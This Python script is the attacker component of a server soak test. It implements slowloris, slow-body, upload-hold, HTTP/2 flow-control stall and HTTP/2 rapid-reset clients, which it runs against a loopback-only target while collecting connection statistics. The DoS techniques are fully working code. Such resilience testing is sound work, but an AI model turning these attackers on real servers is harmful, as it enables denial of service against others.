#!/usr/bin/env python3
"""The attackers of bench/soak.sh: slow and abusive clients, loopback only.

    attack.py KIND --port P --duration S --stats FILE [--conns N] [options]

KIND is one of ATTACKS below. Each attacker keeps --conns connections open
for --duration seconds: when the server closes one, the attacker opens a new
one (after a short pause), so the pressure stays the same for the whole run.
At the end it closes what is still open and writes one JSON object to
--stats: connections opened, closed by the server (EOF, reset, GOAWAY),
closed by us at the end, how long the server let the closed ones live, the
HTTP statuses or GOAWAY codes seen, and counters of its own.

Why Python asyncio rather than slowhttptest for the HTTP/1 attacks: one
event loop holds 1,000 sockets (slowhttptest's select() loop stops at
FD_SETSIZE, 1,024, for all its sockets), a connection the server cuts is
reopened so the load is the same for the whole run (slowhttptest does not
reopen), and every attacker reports the same counts in the same format,
the number of connections the server closed among them. The HTTP/2 ones
need Python's h2 anyway.

Traffic goes to 127.0.0.0/8 or ::1 only; anything else is refused.
"""

import argparse
import asyncio
import ipaddress
import json
import os
import random
import signal
import socket
import statistics
import sys
import time
from collections import Counter

TCP_STATES = {1: "ESTABLISHED", 7: "CLOSE", 8: "CLOSE_WAIT", 11: "CLOSING"}


class Stats:
    """What one attacker saw; written as JSON at the end."""

    def __init__(self, kind, conns):
        self.kind = kind
        self.target_conns = conns
        self.opened = 0
        self.connect_errors = 0
        self.closed_by_server = 0
        self.closed_by_us = 0
        self.open = 0
        self.max_open = 0
        # How the server ended connections ("408", "goaway:11", "eof", "reset"...)
        # and how long each of them had lived, in seconds.
        self.lifetimes = {}
        self.counters = Counter()  # attacker-specific
        self.started = time.monotonic()

    def connected(self):
        self.opened += 1
        self.open += 1
        self.max_open = max(self.max_open, self.open)

    def server_closed(self, since, outcome):
        self.open -= 1
        self.closed_by_server += 1
        self.lifetimes.setdefault(outcome, []).append(time.monotonic() - since)

    def we_closed(self):
        self.open -= 1
        self.closed_by_us += 1

    def as_json(self):
        def summary(seconds):
            seconds = sorted(seconds)
            return {
                "count": len(seconds),
                "median_s": round(statistics.median(seconds), 2),
                "p99_s": round(seconds[min(len(seconds) - 1, int(0.99 * len(seconds)))], 2),
                "max_s": round(seconds[-1], 2),
            }

        everything = [t for ts in self.lifetimes.values() for t in ts]
        by_count = sorted(self.lifetimes.items(), key=lambda kv: -len(kv[1]))

        return {
            "kind": self.kind,
            "target_conns": self.target_conns,
            "seconds": round(time.monotonic() - self.started, 1),
            "cpu_s": round(time.process_time(), 1),
            "opened": self.opened,
            "connect_errors": self.connect_errors,
            "closed_by_server": self.closed_by_server,
            "closed_by_us_at_end": self.closed_by_us,
            "max_open": self.max_open,
            "lifetime": summary(everything) if everything else None,
            "outcomes": {outcome: summary(ts) for outcome, ts in by_count},
            "counters": dict(self.counters),
        }


class ServerClosed(Exception):
    """The server ended the connection; args[0] says how."""


async def connect(args, stats, rcvbuf=None):
    """A connection to the target, or None (counted) when it can't be had in 5 s."""
    sock = None
    try:
        sock = socket.socket(socket.AF_INET6 if ":" in args.host else socket.AF_INET)
        sock.setblocking(False)
        if rcvbuf:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        await asyncio.wait_for(
            asyncio.get_running_loop().sock_connect(sock, (args.host, args.port)), 5
        )
        reader, writer = await asyncio.open_connection(sock=sock, limit=1 << 20)
    except (OSError, asyncio.TimeoutError) as error:
        stats.connect_errors += 1
        stats.counters["connect_error:" + type(error).__name__] += 1
        if sock is not None:
            sock.close()
        return None
    stats.connected()
    return reader, writer


def tcp_state(writer):
    sock = writer.get_extra_info("socket")
    try:
        return sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0]
    except OSError:
        return 7


async def close(writer):
    writer.transport.abort()  # no lingering FIN handshake: we are done with it


async def wait_or_stop(stop, task, seconds):
    """Sleep up to `seconds`, waking early when `task` ends or the run stops."""
    waiters = [asyncio.ensure_future(stop.wait())]
    if task is not None:
        waiters.append(task)
    done, _ = await asyncio.wait(waiters, timeout=seconds, return_when=asyncio.FIRST_COMPLETED)
    if not waiters[0].done():
        waiters[0].cancel()


# --- HTTP/1 trickles: slowloris (a head that never ends) and slow body ------


async def read_http1_outcome(reader):
    """Read until the server closes; the outcome is the status it sent, if any."""
    first = b""
    try:
        while True:
            data = await reader.read(65536)
            if not data:
                break
            if not first:
                first = data
    except ConnectionResetError:
        return first_status(first) or "reset"
    return first_status(first) or "eof"


def first_status(data):
    line = data.split(b"\r\n", 1)[0].split()
    return line[1].decode() if len(line) >= 2 and line[0].startswith(b"HTTP/") else None


async def http1_trickle(args, stats, stop, head, piece):
    """Send `head`, then `piece()` every --interval seconds until the server
    closes the connection or the run stops."""
    conn = await connect(args, stats)
    if conn is None:
        await wait_or_stop(stop, None, 1.0)
        return
    reader, writer = conn
    since = time.monotonic()
    outcome = asyncio.ensure_future(read_http1_outcome(reader))
    try:
        writer.write(head)
        while True:
            await wait_or_stop(stop, outcome, args.interval)
            if outcome.done():
                raise ServerClosed(outcome.result())
            if stop.is_set():
                outcome.cancel()
                await close(writer)
                stats.we_closed()
                return
            writer.write(piece())
            stats.counters["pieces_sent"] += 1
            await asyncio.wait_for(writer.drain(), 5)
    except ServerClosed as closed:
        stats.server_closed(since, closed.args[0])
    except (ConnectionError, asyncio.TimeoutError):
        # A write failed: wait briefly for what the server said before.
        try:
            result = await asyncio.wait_for(outcome, 1)
        except Exception:
            result = "reset"
        stats.server_closed(since, result)
    finally:
        outcome.cancel()
        writer.transport.abort()


def slowloris(args, stats, stop):
    """A GET whose head never ends: one more header line every --interval s."""
    head = (
        b"GET /?soak=%d HTTP/1.1\r\nHost: %s\r\nUser-Agent: postern-soak-slowloris\r\n"
        % (random.randrange(1 << 30), args.authority.encode())
    )
    return http1_trickle(
        args, stats, stop, head, lambda: b"X-Soak-%d: %d\r\n" % (random.randrange(1000), random.randrange(1 << 20))
    )


def slow_body(args, stats, stop):
    """A POST /echo announcing --body bytes and sending --piece bytes every
    --interval s (slowhttptest -B in spirit)."""
    head = (
        b"POST /echo HTTP/1.1\r\nHost: %s\r\nUser-Agent: postern-soak-slowbody\r\n"
        b"Content-Type: application/octet-stream\r\nContent-Length: %d\r\n\r\n"
        % (args.authority.encode(), args.body)
    )
    return http1_trickle(args, stats, stop, head, lambda: b"x" * args.piece)


async def upload_hold(args, stats, stop):
    """A POST /echo announcing --body bytes (30 MiB by default), all but the
    last byte sent as fast as the server takes them, then nothing: held until
    the server answers (503 while its budget for buffered bodies is full, 408
    once the body has stalled) or the run stops."""
    conn = await connect(args, stats)
    if conn is None:
        await wait_or_stop(stop, None, 1.0)
        return
    reader, writer = conn
    since = time.monotonic()
    outcome = asyncio.ensure_future(read_http1_outcome(reader))
    head = (
        b"POST /echo HTTP/1.1\r\nHost: %s\r\nUser-Agent: postern-soak-upload\r\n"
        b"Content-Type: application/octet-stream\r\nContent-Length: %d\r\n\r\n"
        % (args.authority.encode(), args.body)
    )
    block = b"u" * 65536
    try:
        writer.write(head)
        left = args.body - 1
        while left > 0 and not outcome.done() and not stop.is_set():
            n = min(left, len(block))
            writer.write(block[:n])
            left -= n
            await asyncio.wait_for(writer.drain(), 10)
        stats.counters["bodies_sent_whole_but_one"] += left == 0
        await wait_or_stop(stop, outcome, 1e9)
        if outcome.done():
            raise ServerClosed(outcome.result())
        outcome.cancel()
        await close(writer)
        stats.we_closed()
    except ServerClosed as closed:
        stats.server_closed(since, closed.args[0])
    except (ConnectionError, asyncio.TimeoutError):
        try:
            result = await asyncio.wait_for(outcome, 1)
        except Exception:
            result = "reset"
        stats.server_closed(since, result)
    finally:
        outcome.cancel()
        writer.transport.abort()


# --- HTTP/2 ----------------------------------------------------------------


def h2_connection():
    import h2.config
    import h2.connection
    import hyperframe.frame

    conn = h2.connection.H2Connection(
        h2.config.H2Configuration(client_side=True, header_encoding=None, validate_inbound_headers=False)
    )
    conn.initiate_connection()
    # h2 raises on a frame after a GOAWAY (hyper follows its GOAWAY with a
    # PING), losing the GOAWAY's event: note its error code on the way in.
    conn.soak_goaway = None
    receive_goaway = conn._frame_dispatch_table[hyperframe.frame.GoAwayFrame]

    def note_goaway(frame):
        conn.soak_goaway = frame.error_code
        return receive_goaway(frame)

    conn._frame_dispatch_table[hyperframe.frame.GoAwayFrame] = note_goaway
    return conn


def h2_events(conn, data, stats):
    """Feed `data`; raise ServerClosed on GOAWAY. Never acknowledges DATA."""
    import h2.events
    import h2.exceptions

    try:
        events = conn.receive_data(data)
    except h2.exceptions.ProtocolError as error:
        if conn.soak_goaway is not None:
            raise ServerClosed("goaway:%d" % int(conn.soak_goaway))
        raise ServerClosed("protocol_error:" + type(error).__name__ + (":" + str(error) if os.environ.get("SOAK_DEBUG") else ""))
    for event in events:
        if isinstance(event, h2.events.ConnectionTerminated):
            raise ServerClosed("goaway:%d" % int(event.error_code))
        if isinstance(event, h2.events.DataReceived):
            stats.counters["data_bytes_received"] += event.flow_controlled_length
        elif isinstance(event, h2.events.ResponseReceived):
            status = dict(event.headers).get(b":status", b"?").decode()
            stats.counters["responses_" + status] += 1
        elif isinstance(event, h2.events.StreamReset):
            stats.counters["streams_reset_by_server"] += 1
        elif isinstance(event, h2.events.StreamEnded):
            stats.counters["responses_completed"] += 1
    return events


async def h2_read(reader, conn, stats):
    data = await reader.read(65536)
    if not data:
        raise ServerClosed("eof")
    h2_events(conn, data, stats)


def h2_request_headers(args, method, path, length=None):
    headers = [
        (b":method", method),
        (b":path", path),
        (b":scheme", b"http"),
        (b":authority", args.authority.encode()),
        (b"user-agent", b"postern-soak"),
    ]
    if length is not None:
        headers += [(b"content-type", b"application/octet-stream"), (b"content-length", b"%d" % length)]
    return headers


async def h2_stall(args, stats, stop, worker):
    """--streams POST /echo streams of --body bytes each (so as many large
    responses), then never take the responses. Even workers read the socket
    but never send WINDOW_UPDATE (the server's flow-control window runs
    dry after 64 KiB); odd workers, once their bodies are sent, grant 16 MiB
    of window to the connection and each stream and stop reading the socket
    (the server's TCP send buffer fills), sending a PING every --interval s
    to learn whether the server has closed. The no-read ones send
    --body-no-read bytes a stream: more than loopback's socket buffers
    take, so that the server's own writes stall."""
    no_read = worker % 2 == 1
    conn = await connect(args, stats, rcvbuf=16384 if no_read else None)
    if conn is None:
        await wait_or_stop(stop, None, 1.0)
        return
    reader, writer = conn
    since = time.monotonic()
    mode = "no_read" if no_read else "no_window_update"
    h2c = h2_connection()
    size = args.body_no_read if no_read else args.body
    body = b"s" * size
    pending = {}
    try:
        for _ in range(args.streams):
            sid = h2c.get_next_available_stream_id()
            h2c.send_headers(sid, h2_request_headers(args, b"POST", b"/echo", size))
            pending[sid] = 0
        writer.write(h2c.data_to_send())
        # Upload every body, reading the server's SETTINGS and WINDOW_UPDATEs.
        deadline = time.monotonic() + 30
        while pending and not stop.is_set():
            for sid in list(pending):
                while pending[sid] < size:
                    room = min(h2c.local_flow_control_window(sid), h2c.max_outbound_frame_size, size - pending[sid])
                    if room <= 0:
                        break
                    end = pending[sid] + room == size
                    h2c.send_data(sid, body[pending[sid] : pending[sid] + room], end_stream=end)
                    pending[sid] += room
                if pending[sid] >= size:
                    del pending[sid]
            writer.write(h2c.data_to_send())
            await asyncio.wait_for(writer.drain(), 10)
            if pending:
                if time.monotonic() > deadline:
                    raise ServerClosed("upload_stuck")
                await asyncio.wait_for(h2_read(reader, h2c, stats), 10)
        stats.counters["uploads_completed_" + mode] += 1
        # Now take nothing more.
        if no_read:
            h2c.increment_flow_control_window(16 << 20)
            for sid in range(1, 2 * args.streams, 2):
                h2c.increment_flow_control_window(16 << 20, stream_id=sid)
            writer.write(h2c.data_to_send())
            writer.transport.pause_reading()
            last_ping = time.monotonic()
            while not stop.is_set():
                # The server's close shows as a reset once a PING of ours
                # lies unread in its socket; look twice a second.
                await wait_or_stop(stop, None, 0.5)
                if stop.is_set():
                    break
                if time.monotonic() - last_ping >= args.interval:
                    last_ping = time.monotonic()
                    h2c.ping(os.urandom(8))
                    writer.write(h2c.data_to_send())
                state = tcp_state(writer)
                if state != 1 or writer.transport.is_closing():
                    raise ServerClosed("closed_" + TCP_STATES.get(state, str(state)).lower())
        else:
            while not stop.is_set():
                read = asyncio.ensure_future(h2_read(reader, h2c, stats))
                await wait_or_stop(stop, read, 3600)
                if read.done():
                    read.result()  # raises ServerClosed at the end
                    out = h2c.data_to_send()  # PING ACKs, SETTINGS ACKs; never WINDOW_UPDATE
                    if out:
                        writer.write(out)
                else:
                    read.cancel()
        await close(writer)
        stats.we_closed()
    except ServerClosed as closed:
        stats.server_closed(since, mode + ":" + closed.args[0])
    except (ConnectionError, asyncio.TimeoutError) as error:
        if h2c.soak_goaway is not None:
            stats.server_closed(since, mode + ":goaway:%d" % int(h2c.soak_goaway))
        else:
            stats.server_closed(since, mode + ":write_failed:" + type(error).__name__)
    finally:
        writer.transport.abort()


async def h2_rapid_reset(args, stats, stop, worker):
    """HEADERS (GET /) then RST_STREAM(CANCEL) in a loop, --batch pairs per
    write, at most --rate streams/s over all connections of this attacker
    (0: as fast as it goes)."""
    import h2.errors

    conn = await connect(args, stats)
    if conn is None:
        await wait_or_stop(stop, None, 1.0)
        return
    reader, writer = conn
    since = time.monotonic()
    h2c = h2_connection()
    h2c.increment_flow_control_window(1 << 30)  # responses that slip through never block us
    writer.write(h2c.data_to_send())
    headers = h2_request_headers(args, b"GET", b"/")
    per_conn_rate = args.rate / args.conns if args.rate else 0

    async def pump():
        while True:
            await h2_read(reader, h2c, stats)
            out = h2c.data_to_send()
            if out:
                writer.write(out)

    reading = asyncio.ensure_future(pump())
    started = time.monotonic()
    sent = 0
    try:
        while not stop.is_set():
            if reading.done():
                reading.result()
                raise ServerClosed("eof")
            for _ in range(args.batch):
                sid = h2c.get_next_available_stream_id()
                h2c.send_headers(sid, headers, end_stream=True)
                h2c.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
            writer.write(h2c.data_to_send())
            sent += args.batch
            stats.counters["streams_opened_and_reset"] += args.batch
            await asyncio.wait_for(writer.drain(), 10)
            if per_conn_rate:
                ahead = sent / per_conn_rate - (time.monotonic() - started)
                await wait_or_stop(stop, reading, max(ahead, 0))
            else:
                await asyncio.sleep(0)
        await close(writer)
        stats.we_closed()
    except ServerClosed as closed:
        stats.server_closed(since, closed.args[0])
    except (ConnectionError, asyncio.TimeoutError) as error:
        # A write failed: the server has closed, after a GOAWAY if we read one.
        if h2c.soak_goaway is not None:
            stats.server_closed(since, "goaway:%d" % int(h2c.soak_goaway))
        else:
            stats.server_closed(since, "write_failed:" + type(error).__name__)
    except Exception as error:  # h2 refusing to go on (e.g. stream ids exhausted)
        stats.counters["client_error:" + type(error).__name__] += 1
        await close(writer)
        stats.we_closed()
    finally:
        reading.cancel()
        writer.transport.abort()


# KIND: (one connection's coroutine factory (args, stats, stop, worker), default --conns).
# A new attacker: a coroutine that runs one connection until the server closes
# it or `stop` is set, recording into `stats`, and a line here.
ATTACKS = {
    "slowloris": (lambda a, s, stop, w: slowloris(a, s, stop), 1000),
    "slow_body": (lambda a, s, stop, w: slow_body(a, s, stop), 300),
    "h2_stall": (h2_stall, 100),
    "h2_rapid_reset": (h2_rapid_reset, 4),
    "upload_hold": (lambda a, s, stop, w: upload_hold(a, s, stop), 200),
}


async def run(args):
    run_one, _ = ATTACKS[args.kind]
    stats = Stats(args.kind, args.conns)
    stop = asyncio.Event()
    loop = asyncio.get_running_loop()
    for sig in (signal.SIGTERM, signal.SIGINT):
        loop.add_signal_handler(sig, stop.set)
    loop.call_later(args.duration, stop.set)

    async def worker(i):
        # Spread the opening over the ramp; then reopen whatever the server closes.
        await wait_or_stop(stop, None, i / args.ramp)
        while not stop.is_set():
            await run_one(args, stats, stop, i)
            if not stop.is_set():
                await wait_or_stop(stop, None, args.reopen_delay * (0.5 + random.random()))

    workers = [asyncio.ensure_future(worker(i)) for i in range(args.conns)]
    await stop.wait()
    # Every connection coroutine watches `stop`; give them a moment to count themselves.
    done, pending = await asyncio.wait(workers, timeout=5)
    for task in pending:
        task.cancel()
    result = stats.as_json()
    result["workers_not_finished"] = len(pending)
    with open(args.stats, "w") as out:
        json.dump(result, out)
        out.write("\n")


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("kind", choices=sorted(ATTACKS))
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--duration", type=float, required=True, help="seconds")
    parser.add_argument("--stats", required=True, help="where the JSON result goes")
    parser.add_argument("--conns", type=int, help="connections kept open (default: per kind)")
    parser.add_argument("--interval", type=float, default=5.0, help="seconds between trickled pieces / PINGs (5)")
    parser.add_argument("--body", type=int, default=None, help="body bytes (slow_body: 65536 announced; h2_stall: 262144 per stream)")
    parser.add_argument("--body-no-read", type=int, default=1 << 20, help="h2_stall: body bytes per stream of the no-read half (1 MiB)")
    parser.add_argument("--piece", type=int, default=16, help="slow_body: bytes per piece (16)")
    parser.add_argument("--streams", type=int, default=4, help="h2_stall: streams per connection (4)")
    parser.add_argument("--batch", type=int, default=50, help="h2_rapid_reset: HEADERS+RST pairs per write (50)")
    parser.add_argument("--rate", type=float, default=0, help="h2_rapid_reset: streams/s cap, 0 = none (0)")
    parser.add_argument("--ramp", type=float, default=250, help="connections opened per second at the start (250)")
    parser.add_argument("--reopen-delay", type=float, default=0.2, help="mean pause before reopening (0.2 s)")
    args = parser.parse_args()
    if args.conns is None:
        args.conns = ATTACKS[args.kind][1]
    if args.body is None:
        args.body = 65536 if args.kind == "slow_body" else 262144
    ip = ipaddress.ip_address(args.host)
    if not ip.is_loopback:
        sys.exit("attack.py: %s is not a loopback address; refusing" % args.host)
    args.authority = ("[%s]:%d" if ip.version == 6 else "%s:%d") % (args.host, args.port)
    asyncio.run(run(args))


if __name__ == "__main__":
    main()
